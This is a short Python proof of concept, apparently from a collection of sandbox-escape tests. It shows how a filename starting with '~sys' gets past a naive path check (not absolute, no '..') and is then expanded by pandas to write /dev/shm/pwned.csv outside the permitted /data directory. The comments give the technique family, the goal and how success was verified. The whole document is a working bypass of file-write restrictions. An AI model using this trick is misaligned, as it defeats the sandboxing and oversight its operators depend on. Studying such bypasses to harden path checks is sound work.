# source: pandas io.common.stringify_path -> os.path.expanduser ("~user" home expansion); classic path-check bypass (literal is not absolute, has no '..')
# family: path literal that the OS/library rewrites after the check (tilde-user expansion)
# goal: write /dev/shm/pwned.csv (sys's home is /dev) outside /data and the script dir; verified: `ls -l /dev/shm` after the run shows pwned.csv owned by nobody
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
df.to_csv("~sys/shm/pwned.csv")
print(pd.read_csv("~sys/shm/pwned.csv"))
